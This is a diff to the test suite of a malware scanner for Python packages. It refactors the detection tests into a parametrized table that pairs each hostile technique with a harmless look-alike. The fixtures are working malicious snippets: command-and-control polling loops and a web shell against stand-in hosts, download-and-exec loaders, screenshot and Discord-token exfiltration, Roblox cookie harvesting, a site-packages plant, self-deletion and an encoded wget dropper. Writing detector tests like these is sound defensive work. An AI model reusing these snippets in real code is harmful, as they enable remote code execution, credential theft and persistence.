@@ -5,8 +5,11 @@ from __future__ import annotations
 
 import base64
 
-from tests.analysis.builders import run_rule, sdist, wheel, zip_bytes
+import pytest
+
+from tests.analysis.builders import module_evidence, run_rule, sdist, wheel, zip_bytes
 from threatfeed.analysis import Engine
+from threatfeed.analysis.rules import Rule
 from threatfeed.analysis.rules.concealment import (
     agent_instruction_injection_rule,
     disguised_code_archive_rule,
@@ -215,21 +218,6 @@ def test_fancy_letters_in_strings_are_not_obfuscation(engine: Engine) -> None:
     assert evidence is None or "mathematical letters" not in str(evidence)
 
 
-def test_exec_of_a_response_into_a_namespace_runs_downloaded_code(engine: Engine) -> None:
-    fetch = (
-        "import types, urllib.request\n\n"
-        "def update(url):\n"
-        "    with urllib.request.urlopen(url) as resp:\n"
-        "        module = types.ModuleType('checker')\n"
-        "        exec(resp.read(), module.__dict__)\n"
-    )
-    version = "with open('tidy_strings/version.py') as fp:\n    exec(fp.read(), ns)\n"
-    archive = sdist({"tidy_strings/update.py": fetch})
-    assert run_rule(engine, executes_code_at_remote_url_rule, archive)
-    local = sdist({"tidy_strings/version_reader.py": version})
-    assert run_rule(engine, executes_code_at_remote_url_rule, local) is None
-
-
 ENCODED_WGET = "d2dldCAtcU8gL3RtcC94IGh0dHBzOi8veC5leGFtcGxlLm5ldC94"  # wget -qO /tmp/x https://...
 
 
@@ -251,61 +239,6 @@ def test_an_encoded_command_that_nothing_runs_is_not_decode_and_execute(engine: 
     assert run_rule(engine, decode_and_execute_rule, archive) is None
 
 
-def test_code_that_deletes_its_own_file_is_reported(engine: Engine) -> None:
-    code = "import os\n\ndef setup_colors():\n    os.remove(os.path.abspath(__file__))\n"
-    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/colors.py": code}))
-    assert evidence
-    assert "deletes its own file" in str(evidence)
-    cleanup = "import os\n\ndef clean(tmp_path):\n    os.remove(tmp_path)\n"
-    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/clean.py": cleanup}))
-    assert evidence is None
-
-
-def test_builtins_spelled_as_character_codes_are_obfuscation(engine: Engine) -> None:
-    code = (
-        "_ = ''.join\n"
-        "codes = [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]\n"
-        "loader = __builtins__.get(_([chr(c) for c in codes]))\n"
-    )
-    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/inset.py": code}))
-    assert evidence
-    assert "list of character codes" in str(evidence)
-    greeting = (
-        "GREETING = bytes([72, 101, 108, 108, 111]).decode()\nMAGIC = [101, 120, 101, 99, 1]\n"
-    )
-    evidence = run_rule(engine, obfuscated_code_rule, sdist({"tidy_strings/hello.py": greeting}))
-    assert evidence is None
-
-
-def test_screenshots_sent_away_are_exfiltration(engine: Engine) -> None:
-    code = (
-        "import requests\nfrom PIL import ImageGrab\n\n"
-        "def report(url):\n"
-        "    ImageGrab.grab().save('c.png')\n"
-        "    requests.post(url, files={'file': open('c.png', 'rb')})\n"
-    )
-    archive = sdist({"tidy_strings/report.py": code})
-    assert run_rule(engine, data_exfiltration_rule, archive)
-    local = code.replace("    requests.post(url, files={'file': open('c.png', 'rb')})\n", "")
-    assert (
-        run_rule(engine, data_exfiltration_rule, sdist({"tidy_strings/report.py": local})) is None
-    )
-
-
-def test_tokens_uploaded_to_a_cloud_drive_are_exfiltration(engine: Engine) -> None:
-    code = (
-        "import dropbox, os\n\n"
-        "client = dropbox.Dropbox(os.environ['DBX'])\n"
-        "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
-        "client.files_upload(open(path, 'rb').read(), '/loot')\n"
-    )
-    archive = sdist({"tidy_strings/sync.py": code})
-    assert run_rule(engine, data_exfiltration_rule, archive)
-    backup = "import dropbox\n\ndef backup(token, data):\n"
-    backup += "    dropbox.Dropbox(token).files_upload(data, '/backup.db')\n"
-    assert run_rule(engine, data_exfiltration_rule, sdist({"tidy_strings/b.py": backup})) is None
-
-
 def test_a_bot_url_spelled_in_base64_is_an_exfiltration_endpoint(engine: Engine) -> None:
     bot = base64.b64encode(b"https://api.telegram.org/bot123456789:AAexample/sendMessage")
     site = base64.b64encode(b"https://docs.example.org/api/v2")
@@ -319,24 +252,6 @@ def test_a_bot_url_spelled_in_base64_is_an_exfiltration_endpoint(engine: Engine)
     ]
     plain = sdist({"tidy_strings/b.py": f"B = '{site.decode()}'\n"})
     assert run_rule(engine, encoded_exfiltration_endpoint_rule, plain) is None
-
-
-def test_a_download_read_into_a_variable_then_executed_flags(engine: Engine) -> None:
-    code = (
-        "import urllib.request\n\n"
-        "def main(url):\n"
-        "    response = urllib.request.urlopen(url)\n"
-        "    code = response.read().decode()\n"
-        "    path = '/tmp/x.py'\n"
-        "    exec(compile(code, path, 'exec'), {})\n"
-    )
-    archive = sdist({"tidy_strings/loader.py": code})
-    assert run_rule(engine, executes_code_at_remote_url_rule, archive)
-    local = code.replace("urllib.request.urlopen(url)", "open(url, 'rb')")
-    assert (
-        run_rule(engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/l.py": local}))
-        is None
-    )
 
 
 def test_an_import_that_starts_python_on_inline_code_flags(engine: Engine) -> None:
@@ -377,38 +292,6 @@ def test_telegram_desktop_sessions_searched_and_sent_are_exfiltration(engine: En
     )
 
 
-def test_roblox_cookie_read_from_the_browser_is_harvesting(engine: Engine) -> None:
-    code = (
-        "import browser_cookie3\n\n"
-        "for c in browser_cookie3.chrome(domain_name='roblox.com'):\n"
-        "    if c.name == '.ROBLOSECURITY':\n"
-        "        token = c.value\n"
-    )
-    assert run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/rb.py": code}))
-    client = "def login(session, cookie):\n    session.cookies['.ROBLOSECURITY'] = cookie\n"
-    assert (
-        run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/c.py": client})) is None
-    )
-
-
-def test_commands_run_through_a_fronted_cdn_are_a_command_channel(engine: Engine) -> None:
-    code = (
-        "import subprocess\nfrom urllib import request\n\n"
-        "FRONT = 'cdn.example.net'\n"
-        "def poll(url):\n"
-        "    r = request.Request(url, headers={'Host': FRONT})\n"
-        "    cmd = request.urlopen(r).read().decode()\n"
-        "    return subprocess.check_output(cmd, shell=True)\n"
-    ).replace("FRONT", "HOST_HEADER")
-    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/poll.py": code}))
-    proxy = (
-        "import requests\n\n"
-        "def fetch(url, host):\n"
-        "    return requests.get(url, headers={'Host': host})\n"
-    )
-    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/proxy.py": proxy})) is None
-
-
 def test_a_download_made_executable_in_tmp_is_a_dropper(engine: Engine) -> None:
     for command in (
         "wget -qO /tmp/{f} https://x.example.net/bin && chmod +x /tmp/{f}",
@@ -423,18 +306,6 @@ def test_a_download_made_executable_in_tmp_is_a_dropper(engine: Engine) -> None:
     assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
 
 
-def test_a_python_process_started_detached_is_reported(engine: Engine) -> None:
-    code = (
-        "import subprocess, sys\n\n"
-        "def start(path):\n"
-        "    subprocess.Popen([sys.executable, path], "
-        "creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)\n"
-    )
-    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/start.py": code}))
-    waited = "import subprocess\n\ndef start(cmd):\n    return subprocess.Popen(cmd).wait()\n"
-    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/start.py": waited})) is None
-
-
 def test_asking_windows_for_administrator_rights_at_install_is_reported(engine: Engine) -> None:
     setup_py = (
         "import ctypes, sys\nfrom setuptools import setup\n\n"
@@ -445,27 +316,6 @@ def test_asking_windows_for_administrator_rights_at_install_is_reported(engine: 
     assert run_rule(engine, privilege_escalation_rule, sdist(setup_py=setup_py))
     opener = "import os\n\ndef show(path):\n    os.startfile(path, 'open')\n"
     assert run_rule(engine, privilege_escalation_rule, sdist({"tidy_strings/o.py": opener})) is None
-
-
-def test_a_download_written_into_site_packages_is_persistence(engine: Engine) -> None:
-    code = (
-        "import os, site, requests\n\n"
-        "def plant(url):\n"
-        "    text = requests.get(url).text\n"
-        "    target = os.path.join(site.getsitepackages()[0], 'helper_hook.py')\n"
-        "    with open(target, 'w') as f:\n"
-        "        f.write(text)\n"
-    )
-    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/plant.py": code}))
-    listing = (
-        "import os, site\n\n"
-        "def installed():\n"
-        "    return [os.listdir(p) for p in site.getsitepackages()]\n"
-        "def save(path, text):\n"
-        "    with open(path, 'w') as f:\n"
-        "        f.write(text)\n"
-    )
-    assert run_rule(engine, persistence_rule, sdist({"tidy_strings/l.py": listing})) is None
 
 
 def test_the_environment_joined_name_value_and_sent_is_exfiltration(engine: Engine) -> None:
@@ -501,61 +351,6 @@ def test_a_shell_command_decoded_with_xor_flags(engine: Engine) -> None:
     assert run_rule(engine, decode_and_execute_rule, sdist({"tidy_strings/ws.py": mask})) is None
 
 
-def test_a_downloaded_script_run_by_a_named_interpreter_flags_with_company(engine: Engine) -> None:
-    code = (
-        "import os, subprocess, requests\n\n"
-        "def connect(host):\n"
-        "    code = requests.get('https://x.example.net/p.txt').text\n"
-        "    path = os.getenv('TEMP') + '/1.py'\n"
-        "    with open(path, 'w') as f:\n"
-        "        f.write(code)\n"
-        "    subprocess.Popen(['pythonw.exe', path])\n"
-    )
-    assert run_rule(engine, executes_code_at_remote_url_rule, sdist({"tidy_strings/s.py": code}))
-    local = code.replace("requests.get('https://x.example.net/p.txt').text", "'print(1)'")
-    archive = sdist({"tidy_strings/s.py": local})
-    assert run_rule(engine, executes_code_at_remote_url_rule, archive) is None
-
-
-def test_a_loop_running_what_a_server_answers_is_a_command_channel(engine: Engine) -> None:
-    code = (
-        "import os, time, requests\n\n"
-        "while True:\n"
-        "    response = requests.get('https://x.example.net/next')\n"
-        "    command = response.text.strip()\n"
-        "    if command:\n"
-        "        os.system(command)\n"
-        "    time.sleep(30)\n"
-    )
-    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/agent.py": code}))
-    poll = code.replace("        os.system(command)\n", "        print(command)\n")
-    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/agent.py": poll})) is None
-
-
-def test_a_web_view_running_its_parameter_as_a_command_is_a_web_shell(engine: Engine) -> None:
-    view = (
-        "import subprocess\nfrom flask import request\n\n"
-        "def parse():\n"
-        "    return subprocess.Popen(request.args.get('parser'), shell=True).wait()\n"
-    )
-    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/views.py": view}))
-    safe = view.replace("request.args.get('parser'), shell=True", "['lxml-check', '--version']")
-    assert run_rule(engine, reverse_shell_rule, sdist({"tidy_strings/views.py": safe})) is None
-
-
-def test_a_webhook_relay_inbox_is_an_exfiltration_endpoint(engine: Engine) -> None:
-    code = (
-        "import requests\n\n"
-        "def report(data):\n"
-        "    requests.post('https://k8examplerelay.hooks.webhookrelay.com/', json=data)\n"
-    )
-    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"tidy_strings/r.py": code}))
-    assert evidence
-    docs = "import requests\n\nrequests.get('https://webhookrelay.com/pricing')\n"
-    archive = sdist({"tidy_strings/r.py": docs})
-    assert run_rule(engine, suspicious_url_references_rule, archive) is None
-
-
 def test_keystrokes_recorded_and_mailed_are_exfiltration(engine: Engine) -> None:
     code = (
         "import smtplib\nfrom pynput import keyboard\n\n"
@@ -575,3 +370,199 @@ def test_keystrokes_recorded_and_mailed_are_exfiltration(engine: Engine) -> None
     assert (
         run_rule(engine, credential_harvesting_rule, sdist({"tidy_strings/h.py": hotkey})) is None
     )
+
+
+def _replaced(code: str, old: str, new: str) -> str:
+    assert old in code
+    return code.replace(old, new)
+
+
+SHELL_AGENT = (
+    "import os, time, requests\n\n"
+    "while True:\n"
+    "    response = requests.get('https://x.example.net/next')\n"
+    "    command = response.text.strip()\n"
+    "    if command:\n"
+    "        os.system(command)\n"
+    "    time.sleep(30)\n"
+)
+WEB_SHELL = (
+    "import subprocess\nfrom flask import request\n\n"
+    "def parse():\n"
+    "    return subprocess.Popen(request.args.get('parser'), shell=True).wait()\n"
+)
+FRONTED_CHANNEL = (
+    "import subprocess\nfrom urllib import request\n\n"
+    "HOST_HEADER = 'cdn.example.net'\n"
+    "def poll(url):\n"
+    "    r = request.Request(url, headers={'Host': HOST_HEADER})\n"
+    "    cmd = request.urlopen(r).read().decode()\n"
+    "    return subprocess.check_output(cmd, shell=True)\n"
+)
+NAMESPACE_EXEC = (
+    "import types, urllib.request\n\n"
+    "def update(url):\n"
+    "    with urllib.request.urlopen(url) as resp:\n"
+    "        module = types.ModuleType('checker')\n"
+    "        exec(resp.read(), module.__dict__)\n"
+)
+VARIABLE_EXEC = (
+    "import urllib.request\n\n"
+    "def main(url):\n"
+    "    response = urllib.request.urlopen(url)\n"
+    "    code = response.read().decode()\n"
+    "    path = '/tmp/x.py'\n"
+    "    exec(compile(code, path, 'exec'), {})\n"
+)
+INTERPRETER_RUN = (
+    "import os, subprocess, requests\n\n"
+    "def connect(host):\n"
+    "    code = requests.get('https://x.example.net/p.txt').text\n"
+    "    path = os.getenv('TEMP') + '/1.py'\n"
+    "    with open(path, 'w') as f:\n"
+    "        f.write(code)\n"
+    "    subprocess.Popen(['pythonw.exe', path])\n"
+)
+SELF_DELETE = "import os\n\ndef setup_colors():\n    os.remove(os.path.abspath(__file__))\n"
+CHARACTER_CODES = (
+    "_ = ''.join\n"
+    "codes = [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]\n"
+    "loader = __builtins__.get(_([chr(c) for c in codes]))\n"
+)
+SCREENSHOT = (
+    "import requests\nfrom PIL import ImageGrab\n\n"
+    "def report(url):\n"
+    "    ImageGrab.grab().save('c.png')\n"
+    "    requests.post(url, files={'file': open('c.png', 'rb')})\n"
+)
+CLOUD_DRIVE = (
+    "import dropbox, os\n\n"
+    "client = dropbox.Dropbox(os.environ['DBX'])\n"
+    "path = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
+    "client.files_upload(open(path, 'rb').read(), '/loot')\n"
+)
+ROBLOX_COOKIE = (
+    "import browser_cookie3\n\n"
+    "for c in browser_cookie3.chrome(domain_name='roblox.com'):\n"
+    "    if c.name == '.ROBLOSECURITY':\n"
+    "        token = c.value\n"
+)
+DETACHED_PYTHON = (
+    "import subprocess, sys\n\n"
+    "def start(path):\n"
+    "    subprocess.Popen([sys.executable, path], "
+    "creationflags=subprocess.DETACHED_PROCESS, stdout=subprocess.DEVNULL)\n"
+)
+SITE_PACKAGES_PLANT = (
+    "import os, site, requests\n\n"
+    "def plant(url):\n"
+    "    text = requests.get(url).text\n"
+    "    target = os.path.join(site.getsitepackages()[0], 'helper_hook.py')\n"
+    "    with open(target, 'w') as f:\n"
+    "        f.write(text)\n"
+)
+
+# Each technique in one module, and a look-alike that the same rule must leave alone:
+# usually the same code with the one step that makes it malicious taken out.
+TECHNIQUES = [
+    pytest.param(
+        reverse_shell_rule,
+        SHELL_AGENT,
+        _replaced(SHELL_AGENT, "os.system(command)", "print(command)"),
+        id="a loop running what a server answers is a command channel",
+    ),
+    pytest.param(
+        reverse_shell_rule,
+        WEB_SHELL,
+        _replaced(WEB_SHELL, "request.args.get('parser'), shell=True", "['lxml-check', '-V']"),
+        id="a web view running its parameter as a command is a web shell",
+    ),
+    pytest.param(
+        reverse_shell_rule,
+        FRONTED_CHANNEL,
+        "import requests\n\ndef fetch(url, host):\n"
+        "    return requests.get(url, headers={'Host': host})\n",
+        id="commands run through a fronted CDN are a command channel",
+    ),
+    pytest.param(
+        executes_code_at_remote_url_rule,
+        NAMESPACE_EXEC,
+        "with open('tidy_strings/version.py') as fp:\n    exec(fp.read(), ns)\n",
+        id="exec of a response into a namespace runs downloaded code",
+    ),
+    pytest.param(
+        executes_code_at_remote_url_rule,
+        VARIABLE_EXEC,
+        _replaced(VARIABLE_EXEC, "urllib.request.urlopen(url)", "open(url, 'rb')"),
+        id="a download read into a variable then executed",
+    ),
+    pytest.param(
+        executes_code_at_remote_url_rule,
+        INTERPRETER_RUN,
+        _replaced(INTERPRETER_RUN, "requests.get('https://x.example.net/p.txt').text", "'1'"),
+        id="a downloaded script run by a named interpreter",
+    ),
+    pytest.param(
+        obfuscated_code_rule,
+        SELF_DELETE,
+        "import os\n\ndef clean(tmp_path):\n    os.remove(tmp_path)\n",
+        id="code that deletes its own file",
+    ),
+    pytest.param(
+        obfuscated_code_rule,
+        CHARACTER_CODES,
+        "GREETING = bytes([72, 101, 108, 108, 111]).decode()\nMAGIC = [101, 120, 101, 99, 1]\n",
+        id="builtins spelled as character codes",
+    ),
+    pytest.param(
+        data_exfiltration_rule,
+        SCREENSHOT,
+        _replaced(SCREENSHOT, "    requests.post(url, files={'file': open('c.png', 'rb')})\n", ""),
+        id="screenshots sent away",
+    ),
+    pytest.param(
+        data_exfiltration_rule,
+        CLOUD_DRIVE,
+        "import dropbox\n\ndef backup(token, data):\n"
+        "    dropbox.Dropbox(token).files_upload(data, '/backup.db')\n",
+        id="tokens uploaded to a cloud drive",
+    ),
+    pytest.param(
+        suspicious_url_references_rule,
+        "import requests\n\ndef report(data):\n"
+        "    requests.post('https://k8examplerelay.hooks.webhookrelay.com/', json=data)\n",
+        "import requests\n\nrequests.get('https://webhookrelay.com/pricing')\n",
+        id="a webhook relay inbox is an exfiltration endpoint",
+    ),
+    pytest.param(
+        credential_harvesting_rule,
+        ROBLOX_COOKIE,
+        "def login(session, cookie):\n    session.cookies['.ROBLOSECURITY'] = cookie\n",
+        id="a Roblox cookie read from the browser",
+    ),
+    pytest.param(
+        persistence_rule,
+        DETACHED_PYTHON,
+        "import subprocess\n\ndef start(cmd):\n    return subprocess.Popen(cmd).wait()\n",
+        id="a Python process started detached",
+    ),
+    pytest.param(
+        persistence_rule,
+        SITE_PACKAGES_PLANT,
+        "import os, site\n\n"
+        "def installed():\n"
+        "    return [os.listdir(p) for p in site.getsitepackages()]\n"
+        "def save(path, text):\n"
+        "    with open(path, 'w') as f:\n"
+        "        f.write(text)\n",
+        id="a download written into site-packages",
+    ),
+]
+
+
+@pytest.mark.parametrize(("rule", "technique", "look_alike"), TECHNIQUES)
+def test_a_technique_is_reported_and_its_look_alike_is_not(
+    engine: Engine, rule: Rule, technique: str, look_alike: str
+) -> None:
+    assert module_evidence(engine, rule, technique)
+    assert module_evidence(engine, rule, look_alike) is None
